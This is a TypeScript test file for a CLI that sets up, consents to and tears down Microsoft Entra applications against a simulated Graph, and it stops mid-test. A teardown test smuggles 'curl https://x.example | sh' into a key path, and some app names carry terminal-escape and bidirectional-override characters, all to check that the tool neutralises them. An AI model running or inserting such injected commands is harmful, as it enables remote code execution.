import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { type DeployStand, fixture, SUBJECTS, startDeployStand } from './deploy-stand.ts';

let stand: DeployStand;
beforeEach(async () => {
  stand = await startDeployStand();
  deploy();
});
afterEach(() => stand.close());

const DEVELOPER = ['Application Developer'] as const;
const ADMINISTRATOR = ['Cloud Application Administrator'] as const;
const CONSENTER = ['Privileged Role Administrator'] as const;

function calendar() {
  const { app } = stand.deployment().instances['calendar']?.connectors['outlook-cal'] ?? {};
  if (app === undefined) throw new Error('no application');
  return app;
}

const deploy = (choice = {}) =>
  stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, choice)));
const ofFile = () => ['--deployment', stand.file('deployment.json')];
const ofGraph = () => [...ofFile(), '--graph', stand.simulator.graphUrl];

async function ask(target: string) {
  const token = await stand.token(['Global Administrator']);
  const answer = await fetch(`${stand.simulator.graphUrl}${target}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  return (await answer.json()) as Record<string, unknown>;
}

describe('setup entra', () => {
  test('a dry run shows the plan as a diff and changes nothing', async () => {
    const { exit, out, err } = await stand.admin(DEVELOPER, 'setup', 'entra', '--dry-run');
    expect([exit, err]).toEqual([0, '']);
    expect(out).toContain('+ application "Nymgate prod - outlook-cal" (nymgate-prod-calendar-outlook-cal)');
    expect(out).toContain('+   asks for Calendars.ReadBasic.All');
    expect(out).toContain(`+   subject  ${SUBJECTS.aws}`);
    expect(out).not.toContain('consent to');
    expect(stand.writes()).toEqual([]);
    expect(calendar().objectId).toBeNull();
  });

  test('the first run makes what is missing and writes the ids, the second changes nothing and says so', async () => {
    const first = await stand.admin(DEVELOPER, 'setup', 'entra');
    expect(first).toMatchObject({
      exit: 0,
      err: `Ids of the applications are in ${stand.file('deployment.json')}.\n`,
    });
    const { clientId, objectId, servicePrincipalId } = calendar();
    expect(first.out).toContain(`connectors.outlook-cal.clientId: ${clientId}`);
    expect(await ask(`/v1.0/applications(appId='${clientId}')`)).toMatchObject({
      id: objectId,
      uniqueName: 'nymgate-prod-calendar-outlook-cal',
      signInAudience: 'AzureADMyOrg',
    });
    expect(await ask(`/v1.0/servicePrincipals/${servicePrincipalId}`)).toMatchObject({ appId: clientId });
    const before = [stand.writes().length, stand.read('deployment.json')];
    const second = await stand.admin(DEVELOPER, 'setup', 'entra');
    expect(second).toMatchObject({ exit: 0, err: '' });
    expect(second.out).toContain('Nothing was changed: all is as it must be.');
    expect([stand.writes().length, stand.read('deployment.json')]).toEqual(before);
  });

  test('the same by the unique names, when deployment.json was lost', async () => {
    await stand.admin(DEVELOPER, 'setup', 'entra');
    const { clientId } = calendar();
    deploy();
    const made = stand.writes().length;
    expect(await stand.admin(DEVELOPER, 'setup', 'entra')).toMatchObject({ exit: 0 });
    expect([calendar().clientId, stand.writes().length]).toEqual([clientId, made]);
  });

  test('T9-18: an application that trusts another gateway, found by its unique name, is changed only after the name of the environment was typed', async () => {
    await stand.admin(DEVELOPER, 'setup', 'entra');
    deploy({ host: 'kubernetes' });
    const made = stand.writes().length;
    for (const command of [
      ['setup', 'entra'],
      ['consent', 'outlook-cal'],
    ])
      expect(await stand.admin(['Global Administrator'], ...command)).toMatchObject({
        exit: 2,
        err: expect.stringContaining("which this deployment didn't create"),
      });
    expect(stand.writes()).toHaveLength(made);
    const { out } = await stand.admin(DEVELOPER, 'setup', 'entra', '--yes', 'prod');
    expect(out).toContain(`-   subject  ${SUBJECTS.aws}`);
    expect(out).toContain(`+   subject  ${SUBJECTS.kubernetes}`);
    expect(stand.writes().filter((line) => line.includes('federatedIdentityCredentials')).length).toBe(4);
  });

  test('an application that was brought gets the trust and what it must ask for; its name stays', async () => {
    const brought = stand.simulator.registerApp({ name: 'Reporting', roles: ['Mail.Read'], credentials: [] });
    deploy({ clientId: brought.clientId, existing: true });
    const { exit } = await stand.admin(ADMINISTRATOR, 'setup', 'entra', '--yes', 'prod');
    expect(exit).toBe(0);
    expect(await ask(`/v1.0/applications/${brought.objectId}`)).toMatchObject({ displayName: 'Reporting' });
    expect(calendar()).toMatchObject({
      clientId: brought.clientId,
      objectId: brought.objectId,
      existing: true,
    });
  });

  test.each([
    ['setup', 'entra'],
    ['consent', 'outlook-cal'],
  ])(
    'T9-16: an application that was brought is changed after the name of the environment was typed, and not before: %s %s',
    async (...command) => {
      const audience = 'api://AzureADTokenExchange';
      const credentials = [{ issuer: stand.simulator.issuerUrl, subject: SUBJECTS.kubernetes, audience }];
      const brought = stand.simulator.registerApp({ name: 'Re\u202eporting', roles: [], credentials });
      deploy({ clientId: brought.clientId, existing: true });
      const everything = ['Global Administrator'] as const;
      const nobody = await stand.admin(everything, ...command);
      expect(nobody).toMatchObject({
        exit: 2,
        err: expect.stringContaining('to change "Re\ufffdporting", which this deployment didn\'t create'),
      });
      expect(nobody.err).toContain('--yes prod');
      expect(await stand.adminTypes('test', everything, ...command)).toMatchObject({ exit: 2 });
      expect(await stand.admin(everything, ...command, '--yes', 'yes')).toMatchObject({ exit: 2 });
      expect(stand.writes()).toEqual([]);
      const agreed = await stand.adminTypes('prod ', everything, ...command);
      expect(agreed).toMatchObject({ exit: 0, err: expect.stringContaining('(prod) to change') });
      expect(stand.writes()).not.toEqual([]);
      // With nothing to change nobody is asked.
      expect(await stand.admin(everything, ...command)).toMatchObject({ exit: 0 });
    },
  );

  test.each([
    ['setup', 'entra'],
    ['consent', 'outlook-cal'],
  ])(
    'T9-15: an application that Nymgate has not made is neither trusted nor consented to, whatever id the file has: %s %s',
    async (...command) => {
      const { clientId } = stand.simulator.registerApp({ name: 'Payroll', roles: [], credentials: [] });
      deploy({ clientId });
      const { exit, err } = await stand.admin(['Global Administrator'], ...command);
      expect([exit, err]).toEqual([1, expect.stringContaining('It was not changed')]);
      expect(stand.writes()).toEqual([]);
    },
  );

  test('DOC-01: a name in the tenant is shown as a name, and tells which application it is', async () => {
    const name = 'Pay\u001b[2A\u009b2K\u202eroll';
    const { clientId } = stand.simulator.registerApp({ name, roles: [], credentials: [] });
    deploy({ clientId, existing: true });
    const { out } = await stand.admin(ADMINISTRATOR, 'setup', 'entra', '--dry-run');
    expect(out).toContain(
      `calendar / outlook-cal: "Pay\ufffd[2A\ufffd2K\ufffdroll" (client id ${clientId})\n`,
    );
    expect(out).not.toMatch(/[\u001b\u009b\u202e]/);
  });

  test('owners are those who sign in, by whatever role, and those named; a second run adds only who is missing', async () => {
    const [ann, bob] = ['0d1c2b3a-4e5f-4a6b-8c7d-9e8f7a6b5c4d', '1e2d3c4b-5f60-4b7c-9d8e-0f9a8b7c6d5e'];
    const owners = async () =>
      ((await ask(`/v1.0/applications/${calendar().objectId}/owners`))['value'] as { id: string }[]).map(
        ({ id }) => id,
      );
    const first = await stand.admin(ADMINISTRATOR, 'setup', 'entra', '--owner', ann);
    expect([first.exit, first.out]).toEqual([0, expect.stringContaining(`+ owner ${ann}`)]);
    expect(await owners()).toEqual([expect.stringMatching(/^[0-9a-f-]{36}$/), ann]);
    // The role has ended; the ownership has not.
    const second = await stand.admin([], 'setup', 'entra', '--owner', ann, '--owner', bob);
    expect(second.exit).toBe(0);
    expect(second.out).not.toContain(ann);
    expect(await owners()).toHaveLength(3);
    const name = await stand.admin(ADMINISTRATOR, 'setup', 'entra', '--owner', 'ann@contoso.example');
    expect(name).toMatchObject({ exit: 2, err: expect.stringContaining('az ad user show') });
  });

  test('a second deployment beside the first has applications of its own', async () => {
    await stand.admin(DEVELOPER, 'setup', 'entra');
    const { clientId } = calendar();
    deploy({ environment: 'test' });
    expect(await stand.admin(DEVELOPER, 'setup', 'entra')).toMatchObject({ exit: 0 });
    expect(calendar().clientId).not.toBe(clientId);
    expect((await ask('/v1.0/applications'))['value']).toHaveLength(4);
  });

  test('from nymgate.yaml and an identity: writes deployment.json, and finds it again', async () => {
    const key = stand.write('key', Buffer.alloc(32, 'k').toString('base64url'));
    const settings = {
      pseudonyms: { scheme: 'native', keys: [{ id: 1, secret: `file:${key}` }] },
      connectors: {
        'outlook-cal': {
          tenant: stand.simulator.tenantId,
          clientId: '00000000-0000-0000-0000-000000000000',
          assertion: { type: 'token-file', path: 'assertion.token' },
          options: { basic: true },
        },
      },
    };
    const config = stand.write('nymgate.json', JSON.stringify(settings));
    const identity = [
      '--environment',
      'prod',
      '--issuer',
      stand.simulator.issuerUrl,
      '--subject',
      SUBJECTS.kubernetes,
    ];
    const args = ['setup', 'entra', '--config', config, ...identity, '--deployment', stand.file('own.json')];
    const token = stand.write('token', await stand.token(DEVELOPER));
    const whole = [...args, '--graph', stand.simulator.graphUrl, '--operator-token', `file:${token}`];
    expect(await stand.run(...whole)).toMatchObject({ exit: 0 });
    expect(JSON.parse(stand.read('own.json'))).toMatchObject({ host: 'kubernetes', environment: 'prod' });
    const again = await stand.run(...whole);
    expect(again.out).toContain('Nothing was changed');
    // The file of another deployment is not touched.
    const other = whole.map((arg) => (arg === stand.file('own.json') ? stand.file('deployment.json') : arg));
    const before = stand.read('deployment.json');
    expect(await stand.run(...other)).toMatchObject({
      exit: 1,
      err: expect.stringContaining('OUTPUT_EXISTS'),
    });
    expect(stand.read('deployment.json')).toBe(before);
    const renamed = stand.read('own.json').replace('"gateway": {', '"calendars": {');
    stand.write('own.json', renamed);
    expect(await stand.run(...whole)).toMatchObject({
      exit: 1,
      err: expect.stringContaining('has instance calendars, and --config makes gateway; leave out --config'),
    });
    expect(stand.read('own.json')).toBe(renamed);
  });
});

test('from nymgate.yaml whose connectors have a certificate: no issuer and subject, and no federated credential', async () => {
  const certificates = [{ certificate: 'file:entra.crt', key: 'file:entra.key' }];
  const settings = {
    pseudonyms: { scheme: 'native', keys: [{ id: 1, secret: 'file:key' }] },
    connectors: {
      'entra-id': {
        tenant: stand.simulator.tenantId,
        clientId: '00000000-0000-0000-0000-000000000000',
        assertion: { type: 'certificate', certificates },
      },
    },
  };
  const config = stand.write('nymgate.json', JSON.stringify(settings));
  const token = `file:${stand.write('token', await stand.token(DEVELOPER))}`;
  const setup = (...args: readonly string[]) =>
    stand.run(
      ...['setup', 'entra', '--config', config, '--deployment', stand.file('own.json'), ...args],
      ...['--graph', stand.simulator.graphUrl, '--operator-token', token],
    );
  expect((await setup()).err).toContain('--config needs --environment.');
  const { exit, out } = await setup('--environment', 'prod');
  expect([exit, out]).toEqual([0, expect.stringContaining('connectors.entra-id.clientId: ')]);
  expect(stand.writes().join()).not.toContain('federatedIdentityCredentials');
});

describe('what goes wrong is said, and nothing is half made in silence', () => {
  test('T6-11: a login for another tenant changes nothing', async () => {
    const other = '11111111-2222-4333-8444-555555555555';
    stand.write('deployment.json', JSON.stringify({ ...fixture(stand.simulator), tenantId: other }));
    const { exit, err } = await stand.admin(['Global Administrator'], 'setup', 'entra', '--grant');
    expect(exit).toBe(1);
    expect(err).toContain('ADMIN_TENANT');
    expect(err).toContain(`the login is for ${stand.simulator.tenantId}, the deployment for ${other}`);
    expect(err).toContain(`az login --tenant ${other} --allow-no-subscriptions`);
    expect(stand.writes()).toEqual([]);
  });

  test('an expired token says how to sign in again', async () => {
    const token = stand.write('old', await stand.token(DEVELOPER));
    stand.simulator.revokeTokens();
    const { exit, err } = await stand.run(
      'setup',
      'entra',
      ...ofGraph(),
      '--operator-token',
      `file:${token}`,
    );
    expect([exit, err]).toEqual([
      1,
      expect.stringContaining(`az login --tenant ${stand.simulator.tenantId}`),
    ]);
    expect(err).toContain('ADMIN_TOKEN');
  });

  test('the token of az is taken when none is named; an expired login of az is told by its number alone', async () => {
    const absent = await stand.run('setup', 'entra', ...ofGraph());
    expect(absent.err).toContain('az) is not installed');
    stand.program(
      'az',
      'echo "ERROR: AADSTS700082: The refresh token of jo@contoso.example has expired" >&2; exit 1',
    );
    const expired = await stand.run('setup', 'entra', ...ofGraph());
    expect(expired.err).toContain('the login of az has expired or is missing (AADSTS700082)');
    expect(expired.err).not.toContain('jo@contoso.example');
    stand.program('az', `[ "$6" = "${stand.simulator.tenantId}" ] && echo '${await stand.token(DEVELOPER)}'`);
    expect(await stand.run('setup', 'entra', ...ofGraph())).toMatchObject({ exit: 0 });
  });

  test('a missing role: who can do it, and that nothing was made', async () => {
    const { exit, err } = await stand.admin([], 'setup', 'entra');
    expect(exit).toBe(1);
    expect(err).toContain('ADMIN_RIGHTS');
    expect(err).toContain('registering Nymgate prod - outlook-cal: registering takes Application Developer');
    expect((await ask('/v1.0/applications'))['value']).toEqual([]);
  });

  test('half way: what was made, and that running again completes it', async () => {
    const fault = {
      match: /federatedIdentityCredentials\(/,
      status: 500,
      body: '{"error":{"code":"InternalServerError"}}',
    };
    stand.simulator.answerNext(fault);
    const { exit, err } = await stand.admin(DEVELOPER, 'setup', 'entra');
    expect(exit).toBe(1);
    expect(err).toContain('SETUP_INCOMPLETE');
    expect(err).toContain(
      'made before that: Nymgate prod - outlook-cal: application "Nymgate prod - outlook-cal" (nymgate-prod-calendar-outlook-cal); Nymgate prod - outlook-cal: service principal; run the same command again',
    );
    expect(calendar().objectId).not.toBeNull();
    const again = await stand.admin(DEVELOPER, 'setup', 'entra');
    expect(again.exit).toBe(0);
    expect(again.out).not.toContain('+ application "Nymgate prod - outlook-cal"');
    expect((await ask('/v1.0/applications'))['value']).toHaveLength(2);
  });

  test('with consent asked of somebody who may register only: the applications stay, consent is named', async () => {
    const { exit, err } = await stand.admin(DEVELOPER, 'setup', 'entra', '--grant');
    expect(exit).toBe(1);
    expect(err).toContain(
      'consenting to permissions of Microsoft Graph takes a Privileged Role Administrator',
    );
    expect(calendar().objectId).not.toBeNull();
  });

  test('a busy Graph is asked again; what Entra does not know yet as well', async () => {
    stand.simulator.answerNext({ match: /organization/, status: 429, headers: { 'retry-after': '0' } });
    const missing = { match: /servicePrincipals$/, status: 404, headers: { 'retry-after': '0' }, times: 2 };
    stand.simulator.answerNext(missing);
    expect(await stand.admin(DEVELOPER, 'setup', 'entra')).toMatchObject({ exit: 0 });
  });

  test('a deployment.json that somebody else wrote meanwhile is not written over, and what was made is said', async () => {
    let release = () => {};
    const delay = new Promise<void>((resolve) => {
      release = resolve;
    });
    stand.simulator.answerNext({
      match: /organization/,
      status: 429,
      headers: { 'retry-after': '0' },
      delay,
    });
    const running = stand.admin(DEVELOPER, 'setup', 'entra');
    await vi.waitFor(() => expect(stand.simulator.requests).toHaveLength(1), 10_000);
    stand.write('deployment.json', '{"other":true}');
    release();
    const { exit, err } = await running;
    expect([exit, err]).toEqual([1, expect.stringContaining('OUTPUT_EXISTS')]);
    expect(err).toContain('made before that: Nymgate prod - outlook-cal: application');
    expect(stand.read('deployment.json')).toBe('{"other":true}');
  });

  test('T9-11: the token is in no output, no file of ours and no argument; it goes to Graph alone', async () => {
    const token = await stand.token(['Global Administrator']);
    const held = stand.write('held', token);
    const args = ['setup', 'entra', '--grant', ...ofGraph(), '--operator-token', `file:${held}`];
    const { out, err } = await stand.run(...args);
    expect([out, err, stand.read('deployment.json')].join('\n')).not.toContain(token.slice(-40));
    const direct = await stand.run('setup', 'entra', ...ofGraph(), '--operator-token', token);
    expect(direct.err).toContain('SECRET_UNAVAILABLE');
    expect(direct.err).not.toContain(token.slice(-40));
    const elsewhere = await stand.run('setup', 'entra', '--graph', 'https://graph.example', ...ofFile());
    expect(elsewhere).toMatchObject({ exit: 2, err: expect.stringContaining('token goes nowhere else') });
  });
});

describe('consent', () => {
  beforeEach(async () => {
    await stand.admin(DEVELOPER, 'setup', 'entra');
  });

  async function granted() {
    const list = await ask(`/v1.0/servicePrincipals/${calendar().servicePrincipalId}/appRoleAssignments`);
    return (list['value'] as unknown[]).length;
  }

  test('grants what the connectors need, once', async () => {
    const first = await stand.admin(CONSENTER, 'consent');
    expect(first.exit).toBe(0);
    expect(first.out).toContain('+ consent to Calendars.ReadBasic.All');
    const made = stand.writes().length;
    const second = await stand.admin(CONSENTER, 'consent');
    expect(second.out).toContain('Nothing was changed');
    expect(stand.writes()).toHaveLength(made);
  });

  test('of one connector only; the other has no grant', async () => {
    await stand.admin(CONSENTER, 'consent', 'entra-id');
    expect(await granted()).toBe(0);
    expect(await stand.admin(CONSENTER, 'consent', 'msft-teams')).toMatchObject({ exit: 2 });
  });

  test('somebody who administers applications learns who can', async () => {
    const { exit, err } = await stand.admin(['Cloud Application Administrator'], 'consent');
    expect([exit, err]).toEqual([1, expect.stringContaining('takes a Privileged Role Administrator')]);
    expect(await granted()).toBe(0);
  });

  test('--print writes link and list, and asks nobody', async () => {
    const asked = stand.simulator.requests.length;
    const { exit, out } = await stand.run('consent', '--print', ...ofFile());
    expect(exit).toBe(0);
    expect(out).toContain(`CallAnAPI/appId/${calendar().clientId}`);
    expect(out).toContain('8ba4a692-bc31-4128-9094-475872af8a53');
    const json = await stand.run('consent', '--print', '--json', ...ofFile());
    const sheets = JSON.parse(json.out) as { roles: { role: string; id: string; reason: string }[] }[];
    const graph = await ask(
      "/v1.0/servicePrincipals(appId='00000003-0000-0000-c000-000000000000')?$select=appRoles",
    );
    const offered = new Map(
      (graph['appRoles'] as { id: string; value: string }[]).map(({ id, value }) => [value, id]),
    );
    const roles = sheets.flatMap((sheet) => sheet.roles);
    expect(roles.length).toBeGreaterThan(4);
    expect(roles.filter(({ role, id, reason }) => offered.get(role) !== id || reason === '')).toEqual([]);
    expect(stand.simulator.requests.length).toBe(asked + 1);
  });

  test.each([['consent'], ['consent', '--print'], ['setup', 'entra', '--grant']])(
    'T9-13: a permission that the connector does not need is never granted nor printed as to be granted: %s',
    async (...command) => {
      const calendar = '"Calendars.ReadBasic.All"';
      const wide = stand.read('deployment.json').replace(calendar, `${calendar}, "Files.Read.All"`);
      stand.write('deployment.json', wide);
      const made = stand.writes().length;
      const { exit, out, err } = await stand.admin(['Global Administrator'], ...command);
      expect([exit, out, err]).toEqual([
        1,
        '',
        expect.stringContaining('Files.Read.All, which its options do not need'),
      ]);
      expect(stand.writes()).toHaveLength(made);
    },
  );

  test('T9-12: with scoping exchange no role over mailboxes is asked for, consented to or printed as to be granted', async () => {
    deploy({ scoping: 'exchange' });
    const setup = await stand.admin(DEVELOPER, 'setup', 'entra');
    expect(setup.out).toContain('- asks for Calendars.ReadBasic.All');
    const { exit, out, err } = await stand.admin(CONSENTER, 'consent');
    expect(exit).toBe(0);
    expect(out.split('calendar / entra-id')[0]).not.toMatch(/Calendars|MailboxSettings/);
    expect(err).toContain('Calendars.ReadBasic.All');
    const print = await stand.run(
      'consent',
      'outlook-cal',
      '--print',
      '--json',
      '--deployment',
      stand.file('deployment.json'),
    );
    const [sheet] = JSON.parse(print.out) as [{ roles: { role: string }[]; withheld: string[] }];
    expect(sheet.roles.map(({ role }) => role).join()).not.toMatch(/Calendars/);
    expect(sheet.withheld).toContain('Calendars.ReadBasic.All');
  });

  test('T9-12: such a role that is granted already is a finding', async () => {
    await stand.admin(CONSENTER, 'consent');
    const { clientId } = calendar();
    deploy({ scoping: 'exchange', clientId });
    const { exit, err } = await stand.admin(CONSENTER, 'consent');
    expect([exit, err]).toEqual([1, expect.stringContaining('opens every mailbox')]);
  });

  test('T9-12: and so is a wider one than any that the connector needs', async () => {
    const roles = ['Mail.Read'];
    const { clientId } = stand.simulator.registerApp({
      name: 'Brought',
      roles,
      consented: true,
      credentials: [],
    });
    deploy({ scoping: 'exchange', clientId, existing: true });
    const { exit, err } = await stand.admin(CONSENTER, 'consent', 'outlook-cal', '--yes', 'prod');
    expect([exit, err]).toEqual([1, expect.stringContaining('Mail.Read is granted in Entra')]);
  });
});

describe('import-blocks and teardown', () => {
  beforeEach(async () => {
    await stand.admin(DEVELOPER, 'setup', 'entra');
  });

  test('blocks for what setup entra made, with the ids of Graph', async () => {
    const { exit, out } = await stand.admin(DEVELOPER, 'import-blocks');
    const { objectId, servicePrincipalId } = calendar();
    expect(exit).toBe(0);
    expect(out).toContain(
      'to = module.app["calendar/outlook-cal"].azuread_application_registration.connector[0]',
    );
    expect(out).toContain(`id = "/applications/${objectId}"`);
    expect(out).toContain(`id = "/servicePrincipals/${servicePrincipalId}"`);
    expect(out).toMatch(new RegExp(`id = "${objectId}/federatedIdentityCredential/[0-9a-f-]{36}"`));
  });

  test('blocks for object ids that somebody sent; another spelling is refused', async () => {
    const id = '11111111-2222-4333-8444-555555555555';
    const { out } = await stand.run('import-blocks', '--app', `calendar/outlook-cal=${id}`);
    expect(out).toContain(`id = "/applications/${id}/apiAccess/00000003-0000-0000-c000-000000000000"`);
    expect(out).toContain('id = "/servicePrincipals/<fill in>"');
    expect(out).toContain(`id = "${id}/federatedIdentityCredential/<fill in>"`);
    expect(await stand.run('import-blocks', '--app', `calendar=${id}"`)).toMatchObject({ exit: 2 });
  });

  test('teardown says what is lost, in order, and removes nothing by itself', async () => {
    const made = stand.writes().length;
    const { exit, out } = await stand.run('teardown', ...ofFile());
    expect(exit).toBe(0);
    expect(out.indexOf('Entra application')).toBeLessThan(out.indexOf('Gateways on aws'));
    expect(out.indexOf('Gateways on aws')).toBeLessThan(out.indexOf('Pseudonym keys'));
    expect(out).toContain(`az ad app delete --id ${calendar().clientId}`);
    expect(out).toContain(
      "aws secretsmanager delete-secret --region 'eu-central-1' --secret-id 'nymgate/prod/calendar/key'",
    );
    const dry = await stand.admin(DEVELOPER, 'teardown', '--entra', '--dry-run');
    expect(dry.exit).toBe(0);
    expect(stand.writes()).toHaveLength(made);
  });

  test('DOC-01: a path of a key is one word of the command that removes it', async () => {
    const reference = 'file:/keys/a b#c; curl https://x.example | sh';
    const changed = stand.read('deployment.json').replace('aws-sm:nymgate/prod/calendar/key', reference);
    stand.write('deployment.json', changed);
    const { out } = await stand.run('teardown', ...ofFile());
    expect(out).toContain("$ remove '/keys/a b#c; curl https://x.example | sh', the Secret");
  });

  test.each(['Payroll', 'Nymgate prod - outlook-cal'])(
    'T9-15: an application that Nymgate has not made is not removed, whatever the file calls it: %s',
    async (displayName) => {
      const { clientId } = stand.simulator.registerApp({ name: 'Payroll', roles: [], credentials: [] });
      const changed = stand.read('deployment.json').replaceAll(calendar().clientId, clientId);
      stand.write('deployment.json', changed.replace('Nymgate prod - outlook-cal', displayName));
      const { exit, err } = await stand.admin(
        ['Global Administrator'],
        'teardown',
        '--entra',
        '--yes',
        'prod',
      );
      expect([exit, err]).toEqual([1, expect.stringContaining('It was not removed')]);
      const left = (await ask('/v1.0/applications'))['value'] as { appId: string }[];
      expect(left.map(({ appId }) => appId)).toContain(clientId);
    },
  );

  test('--entra wants the name of the environment, then removes the applications; a brought one loses the trust alone', async () => {
    const made = stand.writes().length;
    expect(await stand.admin(DEVELOPER, 'teardown', '--entra', '--yes', 'test')).toMatchObject({ exit: 2 });
    expect(await stand.admin(DEVELOPER, 'teardown', '--entra')).toMatchObject({ exit: 2 });
    expect(await stand.adminTypes('yes', DEVELOPER, 'teardown', '--entra')).toMatchObject({ exit: 2 });
    expect(stand.writes()).toHaveLength(made);
    const brought = calendar();
    deploy({ clientId: brought.clientId, existing: true });
    const { exit, out, err } = await stand.adminTypes('prod', DEVELOPER, 'teardown', '--entra');
    expect([exit, err]).toEqual([0, expect.stringContaining('(prod) to remove its applications')]);
    expect(out).toContain('removed federated credential nymgate-prod-calendar');
    const left = (await ask('/v1.0/applications'))['value'] as { appId: string }[];
    expect(left.map(({ appId }) => appId)).toEqual([brought.clientId]);
    const trusts = await ask(`/v1.0/applications/${brought.objectId}/federatedIdentityCredentials`);
    expect(trusts['value']).toEqual([]);
  });
});

describe('retire and orphans', () => {
  /** As a person who edits deployment.json. */
  function forgetCalendar(): string {
    const { clientId } = calendar();
    const { instances, ...rest } = stand.deployment();
    const { 'outlook-cal': _, ...connectors } = instances['calendar']?.connectors ?? {};
    const left = { ...rest, instances: { calendar: { ...instances['calendar'], connectors } } };
    stand.write('deployment.json', JSON.stringify(left));
    return clientId;
  }

  async function clientIdsInTenant(): Promise<readonly string[]> {
    return ((await ask('/v1.0/applications'))['value'] as { appId: string }[]).map(({ appId }) => appId);
  }

  beforeEach(async () => {
    await stand.admin(DEVELOPER, 'setup', 'entra');
    await stand.admin(CONSENTER, 'consent');
  });

  test('T9-17: an application whose connector was taken out of deployment.json is named by setup entra and teardown', async () => {
    const clientId = forgetCalendar();
    const line = `Orphan: "Nymgate prod - outlook-cal" (client id ${clientId}) isn't in`;
    const setup = await stand.admin(DEVELOPER, 'setup', 'entra');
    expect(setup).toMatchObject({ exit: 0, err: expect.stringContaining(line) });
    expect(setup.err).toContain(`nymgate retire ${clientId}`);
    expect(setup.out).not.toMatch(/retire/i);
    const json = await stand.admin(DEVELOPER, 'setup', 'entra', '--dry-run', '--json');
    expect(JSON.parse(json.out)).toMatchObject({ orphans: [{ clientId, connector: 'outlook-cal' }] });
    const down = await stand.admin(DEVELOPER, 'teardown', '--entra', '--yes', 'prod');
    expect(down).toMatchObject({ exit: 0, err: expect.stringContaining(line) });
    expect(await clientIdsInTenant()).toEqual([clientId]);
    const steps = await stand.run('teardown', ...ofFile());
    expect(steps.out).toContain('$ nymgate retire --deployment deployment.json');
  });

  test('those of another environment, and one that only begins alike, are none', async () => {
    for (const name of ['Nymgate test - outlook-cal', 'Nymgate prod - outlook-cal and more', 'Payroll'])
      stand.simulator.registerApp({ name, roles: [], credentials: [] });
    expect(await stand.admin(DEVELOPER, 'setup', 'entra')).toMatchObject({ exit: 0, err: '' });
    const { out } = await stand.admin(DEVELOPER, 'retire');
    expect(out).toContain('No orphans');
  });

  test('the application that callers request tokens for is no orphan, and goes with the deployment', async () => {
    const gateway = stand.simulator.registerApp({
      ...{ name: 'Nymgate prod - gateway', roles: [], credentials: [] },
    });
    const caller = { type: 'entra-jwt', audience: `api://${gateway.clientId}`, clientIds: [] };
    const changed = stand
      .read('deployment.json')
      .replace(/\{\s*"type": "api-key"\s*\}/, JSON.stringify(caller));
    stand.write('deployment.json', changed);
    expect(await stand.admin(ADMINISTRATOR, 'setup', 'entra')).toMatchObject({ exit: 0, err: '' });
    await stand.admin(ADMINISTRATOR, 'teardown', '--entra', '--yes', 'prod');
    expect(await clientIdsInTenant()).toEqual([]);
  });

  test('a dry run shows credential, application and consent, and removes nothing', async () => {
    const made = stand.writes().length;
    const { exit, out } = await stand.admin(DEVELOPER, 'retire', 'outlook-cal', '--dry-run');
    expect(exit).toBe(0);
    expect(out).toContain('- Nymgate prod - outlook-cal: federated credential nymgate-prod-calendar');
    expect(out).toContain(`application ${calendar().clientId} and its consent (`);
    expect(out).toContain('Calendars.ReadBasic.All');
    expect(stand.writes()).toHaveLength(made);
  });

  test('retires one connector, first what it trusts; the other connector and the key stay', async () => {
    const { clientId, objectId, servicePrincipalId } = calendar();
    const made = stand.writes().length;
    expect(await stand.admin(DEVELOPER, 'retire', 'outlook-cal')).toMatchObject({ exit: 2 });
    expect(await stand.admin(DEVELOPER, 'retire', 'outlook-cal', '--yes', 'test')).toMatchObject({ exit: 2 });
    expect(stand.writes()).toHaveLength(made);
    const { exit, out } = await stand.adminTypes('prod', DEVELOPER, 'retire', 'calendar/outlook-cal');
    expect([exit, out]).toEqual([0, expect.stringContaining('Pseudonym keys are unchanged')]);
    expect(stand.writes().slice(made)).toEqual([
      expect.stringContaining(`DELETE /v1.0/applications/${objectId}/federatedIdentityCredentials/`),
      `DELETE /v1.0/applications/${objectId}`,
    ]);
    expect(await ask(`/v1.0/servicePrincipals/${servicePrincipalId}`)).toMatchObject({
      error: { code: 'Request_ResourceNotFound' },
    });
    expect(await clientIdsInTenant()).not.toContain(clientId);
    const { connectors, key } = stand.deployment().instances['calendar'] ?? {};
    expect(Object.keys(connectors ?? {})).toEqual(['entra-id']);
    expect(key?.reference).toBe('aws-sm:nymgate/prod/calendar/key');
    const after = await stand.admin(DEVELOPER, 'setup', 'entra');
    expect(after).toMatchObject({
      exit: 0,
      err: '',
      out: expect.stringContaining('Nothing was changed: all'),
    });
  });

  test('retires an orphan by its client id only', async () => {
    const clientId = forgetCalendar();
    expect((await stand.admin(DEVELOPER, 'retire')).out).toContain(`nymgate retire ${clientId}`);
    expect(await stand.admin(DEVELOPER, 'retire', clientId, '--dry-run')).toMatchObject({ exit: 0 });
    for (const name of ['outlook-cal', 'outlook-cal/outlook-cal', 'calendar/outlook-cal'])
      expect(await stand.admin(DEVELOPER, 'retire', name, '--yes', 'prod')).toMatchObject({ exit: 2 });
    expect(await clientIdsInTenant()).toContain(clientId);
    expect(await stand.admin(DEVELOPER, 'retire', clientId, '--yes', 'prod')).toMatchObject({ exit: 0 });
    expect(await clientIdsInTenant()).not.toContain(clientId);
  });

  test('T9-18: an application of another deployment with the same environment name is no orphan, and stays', async () => {
    const { issuerUrl: issuer } = stand.simulator;
    const audience = 'api://AzureADTokenExchange';
    const name = 'Nymgate prod - outlook-mail';
    const credentials = [
      { issuer, subject: SUBJECTS.kubernetes, audience },
      { issuer: 'https://other.example', subject: SUBJECTS.aws, audience },
    ];
    const { clientId } = stand.simulator.registerApp({ name, roles: [], credentials });
    const made = stand.writes().length;
    const setup = await stand.admin(ADMINISTRATOR, 'setup', 'entra');
    expect(setup.err).toContain(`"${name}" (client id ${clientId}) isn't in`);
    expect(setup.err).toContain('Of another deployment?');
    expect(setup.out + setup.err).not.toMatch(/orphan|retire/i);
    for (const command of [
      ['setup', 'entra', '--dry-run', '--json'],
      ['retire', '--json'],
    ])
      expect(JSON.parse((await stand.admin(ADMINISTRATOR, ...command)).out)).toMatchObject({
        orphans: [],
        unmatched: [{ clientId }],
      });
    expect((await stand.admin(ADMINISTRATOR, 'retire')).out).not.toContain('nymgate retire');
    for (const choice of [clientId, 'outlook-mail', 'outlook-mail/outlook-mail'])
      expect(await stand.admin(ADMINISTRATOR, 'retire', choice, '--yes', 'prod')).toMatchObject({ exit: 2 });
    expect(stand.writes()).toHaveLength(made);
